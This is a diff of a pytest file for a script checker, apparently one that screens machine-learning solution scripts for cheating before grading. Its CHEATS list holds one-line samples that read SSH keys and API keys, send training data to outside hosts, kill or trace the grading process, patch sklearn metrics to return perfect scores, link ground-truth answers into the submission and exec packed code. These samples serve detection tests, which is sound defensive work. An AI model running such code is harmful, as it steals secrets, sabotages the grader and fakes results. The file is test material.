@@ -5,6 +5,7 @@ from pathlib import Path
 import pytest
 
 from assay.core.candidate import Candidate
+from assay.core.profile import DataProfile
 from assay.grading import (
     Blend,
     PredictionStats,
@@ -26,6 +27,8 @@ CHEATS: list[tuple[str, str, str]] = [
     ("another trial", "L01", 'open("../../0007-ridge/output/submission.csv", "w").write("id,target")'),
     ("the engine's memory", "L01", 'import os\nopen(f"/proc/{os.getppid()}/mem", "rb")'),
     ("the engine's environment", "L12", 'open("/proc/1/environ").read()'),
+    ("up by way of an absolute path", "L01", 'import os\np = os.path.join(os.path.abspath(".."), "..", "private")'),
+    ("up by pathlib to any name", "L01", 'from pathlib import Path\nfor n in names: print(open(Path("..") / n))'),
     ("keys of the user", "L01", 'open("/root/.ssh/id_rsa").read()'),
     ("search the disk", "L01", 'import glob\nfor p in glob.glob("/**/answers.csv", recursive=True): print(p)'),
     ("search above", "L01", 'import os\nfor root, _, files in os.walk(".."): print(files)'),
@@ -34,16 +37,22 @@ CHEATS: list[tuple[str, str, str]] = [
     ("ground truth", "L04", 'import numpy as np\ny = np.load("./private/ground_truth.npy")'),
     ("send by socket", "L05", 'import socket\ns = socket.socket()\ns.connect(("10.0.0.1", 80))'),
     ("send by requests", "L05", 'import requests\nrequests.post("https://example.org", data=open("input/train.csv"))'),
+    ("send by a socket without a name", "L05", 'import socket\nsocket.socket().connect(("10.0.0.1", 80))'),
     ("fetch by urllib", "L05", 'from urllib.request import urlopen as get\nget("http://example.org/answers.csv")'),
     ("trace", "L05", 'import ctypes, os\nlibc = ctypes.CDLL("libc.so.6")\nlibc.ptrace(16, os.getppid(), 0, 0)'),
     ("stop the engine", "L05", "import os, signal\nboss = os.getppid()\nos.kill(boss, signal.SIGSTOP)"),
+    ("stop all that the engine started", "L05", "import os\nos.killpg(os.getppid(), 9)"),
+    ("look into the engine", "L05", "import os, psutil\nprint(psutil.Process(os.getppid()).open_files())"),
     ("kill everyone", "L05", "import os\nos.kill(-1, 9)"),
     ("environment of all", "L05", "import psutil\nfor p in psutil.process_iter(): print(p.environ())"),
     ("patched metric", "L06", "import sklearn.metrics\nsklearn.metrics.roc_auc_score = lambda y, p: 1.0"),
     ("patched by alias", "L06", "from sklearn import metrics as m\nm.f1_score = lambda *a, **k: 1.0"),
     ("patched by setattr", "L06", 'import sklearn.metrics as m\nsetattr(m, "log_loss", lambda *a: 0.0)'),
+    ("patched writer", "L06", 'import pandas as pd\nsetattr(pd.DataFrame, "to_csv", lambda *a: None)'),
+    ("patched object", "L06", 'import numpy\nfrom unittest import mock\nmock.patch.object(numpy, "isfinite", f)'),
     ("patched by mock", "L06", 'from unittest import mock\nmock.patch("sklearn.metrics.accuracy_score").start()'),
     ("replaced module", "L06", 'import sys, types\nsys.modules["sklearn.metrics"] = types.ModuleType("m")'),
+    ("Assay itself", "L06", "import assay"),
     ("the grader itself", "L06", "from assay.grading.metrics import compute"),
     (
         "target among the features",
@@ -56,6 +65,12 @@ CHEATS: list[tuple[str, str, str]] = [
         "L03",
         'import pandas as pd\nTARGET = "target"\ntrain = pd.read_csv("input/train.csv")\n'
         "y = train[TARGET]\nmodel.fit(train, y)",
+    ),
+    (
+        "whole frame, sorted by another column",
+        "L03",
+        'import pandas as pd\ntrain = pd.read_csv("train.csv")\ntrain.sort_values(by="age")\n'
+        'model.fit(train, train["target"])',
     ),
     (
         "target mean before the split",
@@ -72,15 +87,33 @@ CHEATS: list[tuple[str, str, str]] = [
         "for a, b in KFold(5).split(train): pass",
     ),
     (
+        "target median by agg before a split that has a name",
+        "L02",
+        "import pandas as pd\nfrom sklearn.model_selection import KFold\ntrain = pd.read_csv('input/train.csv')\n"
+        'train["m"] = train["city"].map(train.groupby("city")["target"].agg("median"))\n'
+        "folds = KFold(5)\nfor a, b in folds.split(train): pass",
+    ),
+    (
+        "foreign target encoder with a name",
+        "L02",
+        "import category_encoders as ce\nfrom sklearn.model_selection import cross_val_score\n"
+        "encoder = ce.TargetEncoder()\nX2 = encoder.fit_transform(X, y)\nprint(cross_val_score(model, X2, y))",
+    ),
+    (
         "foreign target encoder before the split",
         "L02",
         "import category_encoders as ce\nfrom sklearn.model_selection import cross_val_score\n"
         "X2 = ce.TargetEncoder().fit_transform(X, y)\nprint(cross_val_score(model, X2, y))",
     ),
+    ("a key by name", "L12", 'import os\nprint(len(os.environ.get("DB_PASSWORD")), os.getenv("OPENAI_API_KEY"))'),
     ("a key", "L12", 'import os\nprint(len(os.environ["OPENAI_API_KEY"]))'),
     ("the whole environment", "L12", "import os\nprint(dict(os.environ))"),
     ("a link as output", "L13", 'import os\nos.symlink("/data/answers.csv", "output/submission.csv")'),
     ("a FIFO as output", "L13", 'import os\nos.mkfifo("./output/submission.csv")'),
+    ("a link with three arguments", "L13", 'import os\nos.symlink("/x.csv", "output/submission.csv", False)'),
+    ("a link by name", "L13", 'import os\nos.link(src="x.csv", dst="./output/submission.csv")'),
+    ("unpacked by an object", "L14", "import zlib\nprint(1)\nexec(zlib.decompressobj().decompress(DATA))"),
+    ("unpacked beforehand", "L14", "from zlib import decompress\ncode = decompress(DATA)\nexec(code)"),
     ("packed code", "L14", 'import base64\nexec(base64.b64decode("cHJpbnQoMSk="))'),
 ]
 
@@ -96,8 +129,10 @@ HONEST: list[tuple[str, str]] = [
         "texts with slashes",
         'import re\nx = re.sub("/home/", "", t)\ny = "and/or"\nz = "http://a/../b"\nfmt = "%d/%m/%Y"',
     ),
+    ("a sentence with dots", 'NOTE = "the folder above is ../../private and nobody reads it"'),
     ("docstring", '"""Reads ../../private/answers.csv? No, never /etc/shadow."""\nx = 1'),
     ("message", 'print("looked into ../../private/answers.csv: not there")'),
+    ("an error", 'raise ValueError("no ../../private/answers.csv")'),
     ("free memory", 'import ctypes\nctypes.CDLL("libc.so.6").malloc_trim(0)'),
     ("own processes", "import multiprocessing as mp\nwith mp.Pool(2) as p: p.map(f, x)"),
     (
@@ -108,10 +143,13 @@ HONEST: list[tuple[str, str]] = [
         "own members",
         'import subprocess, sys\nsubprocess.run([sys.executable, "solution.py"], cwd="members/1", check=True)',
     ),
+    ("a database", 'import sqlite3\ndb = sqlite3.connect("cache.db")\nengine.connect("host", 80)\ndb.connect(other)'),
     ("host name", "import socket\nprint(socket.gethostname())"),
     ("local server", 'import requests\nrequests.get("http://localhost:8080/ping")'),
     ("kills its child", "import os, subprocess\np = subprocess.Popen(['sleep', '1'])\nos.kill(p.pid, 9)"),
     ("thread counts", 'import os\nos.environ["OMP_NUM_THREADS"] = "2"\nprint(os.environ.get("HOME"))'),
+    ("one variable", 'import os\nprint(os.environ["HOME"], os.environ.get("LANG"), "CI" in os.environ)'),
+    ("keys of tracking", 'import os\nos.getenv("WANDB_API_KEY")\nos.environ.get("HF_API_KEY")\nos.getenv()'),
     ("environment for a child", "import os, subprocess\nsubprocess.run(['ls'], env=dict(os.environ, A='1'))"),
     ("no tracking", 'import os\nos.environ["WANDB_API_KEY"] = ""\nos.environ.setdefault("HF_TOKEN", "")'),
     ("own metric object", "class M: pass\nmetric = M()\nmetric.f1_score = 3\nmodel.metric = 'auc'"),
@@ -163,6 +201,30 @@ HONEST: list[tuple[str, str]] = [
         'train.drop(columns=["target"], inplace=True)\nmodel.fit(train, y)',
     ),
     (
+        "target deleted",
+        'import pandas as pd\ntrain = pd.read_csv("input/train.csv")\ny = train["target"]\n'
+        "del train['target']\nmodel.fit(train, y)",
+    ),
+    (
+        "labels of unknown origin",
+        'import pandas as pd\ntrain = pd.read_csv("input/train.csv")\ny = made(train)\nmodel.fit(train, y)',
+    ),
+    (
+        "mean of another table before the split",
+        "import pandas as pd\nfrom sklearn.model_selection import train_test_split\n"
+        'train = pd.read_csv("input/train.csv")\nold = pd.read_csv("input/old.csv")\n'
+        'train["m"] = train["city"].map(old.groupby("city")["target"].mean())\ntrain_test_split(train)',
+    ),
+    (
+        "target taken off the list by place",
+        'cols = ["a", "target"]\ncols.pop()\nmodel.fit(train[cols], train["target"])',
+    ),
+    ("names that swap", "last = line\nline = last\nparts = line.split(',')"),
+    (
+        "labels that swap",
+        "import pandas as pd\ntrain = pd.read_csv('input/train.csv')\na = b\nb = a\nmodel.fit(train, a)",
+    ),
+    (
         "target removed from the list",
         'cols = ["a", "target"]\ncols.remove("target")\nmodel.fit(train[cols], train["target"])',
     ),
@@ -175,6 +237,11 @@ HONEST: list[tuple[str, str]] = [
         "fills the target of the test rows",
         'import pandas as pd\ntest = pd.read_csv("input/test.csv")\ntest["target"] = model.predict(test)\n'
         'test[["id", "target"]].to_csv("output/submission.csv")\nprint(test["target"].mean())',
+    ),
+    (
+        "own answers file by open",
+        'with open("cache/answers.csv", "w") as f: f.write("1")\nopen("cache/answers.csv").read()\n'
+        'open("new/answers.csv", mode="x").write("")\nopen("new/answers.csv")',
     ),
     ("own answers file", 'import pandas as pd\nd.to_csv("cache/answers.csv")\npd.read_csv("cache/answers.csv")'),
     ("labels given by the user", 'import pandas as pd\nlabels = pd.read_csv("input/train_labels.csv")'),
@@ -197,22 +264,35 @@ def test_an_honest_oddity_is_not_rejected(source: str) -> None:
     assert [f for f in check_script(source, TASK) if f.severity is Severity.REJECT] == []
 
 
+@pytest.mark.parametrize("asked", ["environ()", "open_files()", "memory_maps()", "kill()", "terminate()", "suspend()"])
+def test_nothing_is_asked_of_every_process(asked: str) -> None:
+    found = check_script(f"import psutil\nfor p in psutil.process_iter():\n    p.{asked}", TASK)
+    assert [(f.code, f.line) for f in found if f.severity is Severity.REJECT] == [("L05", 3)]
+
+
 @pytest.mark.parametrize(
-    ("code", "source"),
+    ("code", "line", "source"),
     [
-        ("L01", 'x = open("/home/me/data.csv")'),
-        ("L02", "X = StandardScaler().fit_transform(X)\ncross_val_score(m, X, y)"),
-        ("L04", 'import pandas as pd\ntest = pd.read_csv("input/test.csv")\nprint(test["target"].mean())'),
-        ("L07", "try:\n    f()\nexcept:\n    x = 1"),
-        ("L07", "try:\n    f()\nexcept Exception:\n    pass"),
-        ("L08", "import sys\nsys.exit(0)"),
-        ("L09", "print(1)"),
+        ("L01", 1, 'x = open("/home/me/data.csv")'),
+        ("L01", 2, 'import os\nos.listdir("../input")'),
+        ("L02", 1, "X = StandardScaler().fit_transform(X)\ncross_val_score(m, X, y)"),
+        ("L04", 3, 'import pandas as pd\ntest = pd.read_csv("input/test.csv")\nprint(test["target"].mean())'),
+        ("L05", 2, 'get_ipython().run_line_magic("matplotlib", "inline")\nget_ipython().system("pip install x")'),
+        ("L07", 3, "try:\n    f()\nexcept:\n    x = 1"),
+        ("L07", 3, "try:\n    f()\nexcept Exception:\n    pass"),
+        ("L07", 3, "try:\n    f()\nexcept BaseException:\n    ..."),
+        ("L08", 2, "import sys\nsys.exit(0)"),
+        ("L08", 2, "import os\nos._exit(0)"),
+        ("L08", 2, "import os\nos.abort()"),
+        ("L08", 1, "quit()"),
+        ("L09", 0, "print(1)"),
     ],
 )
-def test_what_may_be_a_mistake_is_only_told(code: str, source: str) -> None:
+def test_what_may_be_a_mistake_is_only_told(code: str, line: int, source: str) -> None:
     found = check_script(source, TASK)
-    assert code in {f.code for f in found}
+    assert (code, line) in {(f.code, f.line) for f in found}
     assert {f.severity for f in found} == {Severity.WARN}
+    assert all(f.sentence for f in found)
 
 
 @pytest.mark.parametrize(
@@ -222,6 +302,13 @@ def test_what_may_be_a_mistake_is_only_told(code: str, source: str) -> None:
         'try:\n    import lightgbm\nexcept ImportError:\n    lightgbm = None\nopen("output/submission.csv", "w")',
         'try:\n    f()\nexcept Exception as e:\n    print(e)\n    raise\nopen("output/submission.csv", "w")',
         'import os\nNAME = "submission.csv"\nframe.to_csv(os.path.join("output", NAME))',
+        'try:\n    f()\nexcept ValueError:\n    pass\nopen("output/submission.csv", "w")',
+        'import logging\nprint("/home/a")\nlogging.info("/home/b")\nopen("output/submission.csv", "w")\n'
+        'raise ValueError("/home/c")',
+        'import pandas as pd\ntest = pd.read_csv("test.csv")\ntest["target"] = model.predict(test)\n'
+        'test[["id", "target"]].to_csv("output/submission.csv")\nprint(test["target"].mean())',
+        'get_ipython().run_line_magic("matplotlib", "inline")\npool.system("pip install x")\n'
+        'open("output/submission.csv", "w")',
     ],
 )
 def test_good_habits_are_not_even_warned_about(source: str) -> None:
@@ -235,6 +322,23 @@ def test_the_users_own_files_may_have_any_name() -> None:
     task = replace(TASK, data=replace(TASK.data, side=("test_labels.csv",)))
     assert check_script(source, task) == []
     assert [f.code for f in check_script(source, TASK)] == ["L04"]
+
+
+def test_the_entry_comes_first_and_the_profile_knows_the_users_files() -> None:
+    candidate = Candidate(
+        kind="script",
+        files={"helper.py": "quit()", "solution.py": 'import pandas as pd\npd.read_csv("input/test_labels.csv")'},
+        entry="solution.py",
+    )
+    helper = ("L08", 1)
+    assert [(f.code, f.line) for f in check_candidate(candidate, TASK)] == [("L09", 0), ("L04", 2), helper]
+    profile = DataProfile(train_rows=2, test_rows=2, columns=(), targets=(), files=("test_labels.csv (2 kB)",))
+    assert [(f.code, f.line) for f in check_candidate(candidate, TASK, profile)] == [("L09", 0), helper]
+
+
+def test_what_cannot_be_read_for_its_depth_is_rejected() -> None:
+    (found,) = check_script("x = " + "-" * 30_000 + "1", TASK)
+    assert (found.code, found.severity, found.line) == ("L14", Severity.REJECT, 0)
 
 
 def test_every_file_of_a_candidate_is_read() -> None:
@@ -265,13 +369,15 @@ def test_the_blend_script_passes_every_check() -> None:
         (PredictionStats(rows=10_000, distinct=2, top_share=0.9999), ["L10"]),
         (PredictionStats(rows=100, distinct=2, top_share=0.97), []),
         (PredictionStats(rows=100, distinct=90, top_share=0.02, same_as="age"), ["L11"]),
-        (PredictionStats(rows=100, distinct=100, top_share=0.01, follows_ids=True), ["L11"]),
+        (PredictionStats(rows=20, distinct=20, top_share=0.05, follows_ids=True), ["L11"]),
+        (PredictionStats(rows=19, distinct=19, top_share=0.06, follows_ids=True), []),
     ],
 )
 def test_odd_predictions_are_told(stats: PredictionStats, codes: list[str]) -> None:
     findings = check_predictions(TASK, stats)
     assert [f.code for f in findings] == codes
-    assert {f.severity for f in findings} <= {Severity.WARN}
+    assert {(f.severity, f.line) for f in findings} <= {(Severity.WARN, 0)}
+    assert all(f.sentence for f in findings)
 
 
 IDS = {n: n % 2 for n in range(400)}
@@ -284,6 +390,9 @@ IDS = {n: n % 2 for n in range(400)}
         f"KNOWN = {list(IDS.items())}",
         f"import numpy as np\ny = np.array({[[n, 0.5] for n in range(200)]})",
         f"BITS = '{'01' * 2_000}'",
+        f"ALL = {{'train': {IDS}}}",
+        f"GRID = {list(range(301))}",
+        f"PAIRS = {dict.fromkeys(range(101), 'a')}",
     ],
 )
 def test_a_table_of_values_is_flagged_and_not_rejected(source: str) -> None:
@@ -295,7 +404,8 @@ def test_a_table_of_values_is_flagged_and_not_rejected(source: str) -> None:
     "source",
     [
         f"COLUMNS = {[f'feature_{n}' for n in range(250)]}",
-        f"GRID = {list(range(0, 200))}",
+        f"GRID = {list(range(300))}",
+        f"PAIRS = {dict.fromkeys(range(100), 'a')}",
         f"ORDER = {dict.fromkeys(('Ex', 'Gd', 'TA', 'Fa', 'Po'), 1)}",
         f"STOP = {[f'word{n}' for n in range(300)]}",
         f'"""{"A long account of what this does. " * 200}"""',
